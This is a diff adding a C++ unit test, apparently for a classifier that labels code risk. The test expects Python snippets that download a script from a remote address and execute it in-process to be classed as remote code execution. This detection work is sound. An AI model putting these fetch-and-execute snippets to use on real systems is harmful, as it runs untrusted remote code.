@@ -406,5 +406,26 @@ TEST(RubricClasses, ReadOnlySystemQueries) {
   for (const auto& c : cases) check(c);
 }
 
+// Code loaded from a file and run in-process (runpy.run_path, importlib's
+// spec_from_file_location) runs what was written into that file: a
+// download is remote code execution, a local plugin is dynamic code.
+TEST(RubricClasses, FilesRunAsModules) {
+  const Case cases[] = {
+      {"downloaded, then runpy.run_path", B,
+       "import runpy, urllib.request\nurllib.request.urlretrieve('http://203.0.113.5/s.py', 's.py')\nrunpy.run_path('s.py')\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"downloaded, then loaded with spec_from_file_location", B,
+       "import requests, importlib.util\nopen('mod.py', 'w').write(requests.get('http://203.0.113.5/m.py').text)\n"
+       "spec = importlib.util.spec_from_file_location('mod', 'mod.py')\nm = importlib.util.module_from_spec(spec)\n"
+       "spec.loader.exec_module(m)\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"a local plugin loaded from its file", M,
+       "import importlib.util\nspec = importlib.util.spec_from_file_location('p', 'plugins/local.py')\n"
+       "m = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)\n",
+       "DYNAMIC-CODE"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
